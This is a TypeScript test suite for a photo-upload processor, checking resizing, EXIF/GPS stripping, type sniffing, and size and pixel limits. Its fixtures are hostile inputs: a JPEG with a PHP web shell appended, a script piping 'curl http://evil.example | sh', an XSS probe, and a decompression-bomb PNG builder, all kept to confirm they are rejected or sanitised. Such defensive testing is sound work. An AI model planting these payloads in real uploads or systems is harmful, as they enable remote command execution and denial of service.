import { createHash } from 'node:crypto';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { processPhoto, type ProcessedImage, type PhotoResult } from './photo.processor';
import { sniffImageType } from './image-type.util';

const MB = 1_048_576;

function image(width: number, height: number, channels: 3 | 4 = 3) {
  return sharp({
    create: {
      width,
      height,
      channels,
      background: channels === 4 ? { r: 200, g: 30, b: 30, alpha: 0.5 } : '#c81e1e',
    },
  });
}

/** A PNG whose header claims `width`×`height` over a few bytes of data: a decompression bomb's shape. */
function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale, no interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(1024))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function photoOf(result: PhotoResult) {
  if (!result.ok) throw new Error(`${result.code}: ${result.message}`);
  return result.photo;
}

async function expectClean(processed: ProcessedImage) {
  const metadata = await sharp(processed.buffer).metadata();
  expect({
    format: metadata.format,
    exif: metadata.exif,
    xmp: metadata.xmp,
    iptc: metadata.iptc,
    icc: metadata.icc,
    orientation: metadata.orientation,
  }).toEqual({
    format: 'jpeg',
    exif: undefined,
    xmp: undefined,
    iptc: undefined,
    icc: undefined,
    orientation: undefined,
  });
  expect(processed).toMatchObject({
    mimeType: 'image/jpeg',
    size: processed.buffer.length,
    width: metadata.width,
    height: metadata.height,
  });
  expect(processed.sha1).toBe(createHash('sha1').update(processed.buffer).digest('hex'));
  expect(processed.sha256).toBe(createHash('sha256').update(processed.buffer).digest('hex'));
}

describe('processPhoto', () => {
  it('produces the original and every derivative at their sizes', async () => {
    const input = await image(1600, 1200).jpeg().toBuffer();

    const sut = photoOf(await processPhoto(input, { maxBytes: 5 * MB }));

    expect(sut.sourceType).toBe('jpeg');
    expect([sut.original.width, sut.original.height]).toEqual([1600, 1200]);
    expect([sut.push.width, sut.push.height]).toEqual([192, 192]);
    expect([sut.email.width, sut.email.height]).toEqual([600, 450]);
    expect([sut.social.width, sut.social.height]).toEqual([1200, 675]);
    for (const processed of [sut.original, sut.push, sut.email, sut.social]) await expectClean(processed);
  });

  it('turns the photo upright and strips the EXIF with its GPS position', async () => {
    const input = await image(40, 20)
      .withMetadata({ orientation: 6 })
      .withExifMerge({
        IFD0: { Make: 'PhoneMaker', Model: 'Phone 12' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '37/1 58/1 2/1',
          GPSLongitudeRef: 'E',
          GPSLongitude: '23/1 43/1 39/1',
        },
      })
      .jpeg()
      .toBuffer();
    const before = await sharp(input).metadata();
    // The fixture really carries what must go: orientation 6 and a GPS IFD (tag 0x8825).
    expect(before.orientation).toBe(6);
    expect(before.exif!.includes(Buffer.from([0x25, 0x88]))).toBe(true);

    const sut = photoOf(await processPhoto(input, { maxBytes: MB }));

    expect([sut.original.width, sut.original.height]).toEqual([20, 40]);
    for (const processed of [sut.original, sut.push, sut.email, sut.social]) {
      await expectClean(processed);
      expect(processed.buffer.includes(Buffer.from('Exif'))).toBe(false);
      expect(processed.buffer.includes(Buffer.from('PhoneMaker'))).toBe(false);
    }
  });

  it('accepts PNG with transparency and WebP, re-encoding both as JPEG', async () => {
    const png = photoOf(await processPhoto(await image(300, 200, 4).png().toBuffer(), { maxBytes: MB }));
    const webp = photoOf(await processPhoto(await image(300, 200).webp().toBuffer(), { maxBytes: MB }));
    expect([png.sourceType, webp.sourceType]).toEqual(['png', 'webp']);
    await expectClean(png.original);
    await expectClean(webp.original);
  });

  it('drops bytes hidden after the image data', async () => {
    const polyglot = Buffer.concat([
      await image(64, 64).jpeg().toBuffer(),
      Buffer.from('<?php system($_GET["c"]); ?>'),
    ]);
    const sut = photoOf(await processPhoto(polyglot, { maxBytes: MB }));
    expect(sut.original.buffer.includes(Buffer.from('<?php'))).toBe(false);
  });

  it.each<[string, () => Promise<Buffer>, string]>([
    [
      'a shell script named .jpg',
      () => Promise.resolve(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n')),
      'unsupported_type',
    ],
    [
      'an HTML page',
      () => Promise.resolve(Buffer.from('<html><script>alert(1)</script></html>')),
      'unsupported_type',
    ],
    [
      'an SVG',
      () => Promise.resolve(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"/>')),
      'unsupported_type',
    ],
    ['a GIF', () => image(10, 10).gif().toBuffer(), 'unsupported_type'],
    ['a TIFF', () => image(10, 10).tiff().toBuffer(), 'unsupported_type'],
    [
      'a JPEG signature over garbage',
      () => Promise.resolve(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200, 7)])),
      'unreadable',
    ],
    ['an empty file', () => Promise.resolve(Buffer.alloc(0)), 'unsupported_type'],
  ])('refuses %s', async (_name, make, code) => {
    expect(await processPhoto(await make(), { maxBytes: MB })).toMatchObject({ ok: false, code });
  });

  it('refuses a file over the size limit before reading it', async () => {
    const input = await image(200, 200).jpeg().toBuffer();
    expect(await processPhoto(input, { maxBytes: input.length - 1 })).toEqual({
      ok: false,
      code: 'too_large',
      message: `the photo is ${(input.length / MB).toFixed(1)} MB: at most ${((input.length - 1) / MB).toFixed(1)} MB is accepted`,
    });
  });

  it('refuses a decompression bomb by its declared size, without decoding it', async () => {
    const bomb = pngClaiming(100_000, 100_000);
    expect(bomb.length).toBeLessThan(2_000);
    expect(await processPhoto(bomb, { maxBytes: MB })).toEqual({
      ok: false,
      code: 'too_many_pixels',
      message: 'the image is 100000×100000 pixels: at most 50 megapixels are accepted',
    });
  });

  it('refuses an image above the configured pixel limit', async () => {
    const flat = await image(2000, 2000).png({ compressionLevel: 9 }).toBuffer();
    expect(flat.length).toBeLessThan(100_000);
    expect(await processPhoto(flat, { maxBytes: MB, maxPixels: 1_000_000 })).toMatchObject({
      ok: false,
      code: 'too_many_pixels',
    });
  });
});

describe('sniffImageType', () => {
  it('reads the magic bytes', () => {
    expect(sniffImageType(Buffer.from([0xff, 0xd8, 0xff, 0xdb]))).toBe('jpeg');
    expect(sniffImageType(Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'))).toBe('png');
    expect(sniffImageType(Buffer.from('RIFF\0\0\0\0WEBPVP8 ', 'latin1'))).toBe('webp');
    expect(sniffImageType(Buffer.from('RIFF\0\0\0\0WAVEfmt ', 'latin1'))).toBeUndefined();
    expect(sniffImageType(Buffer.from([0xff, 0xd8]))).toBeUndefined();
  });
});
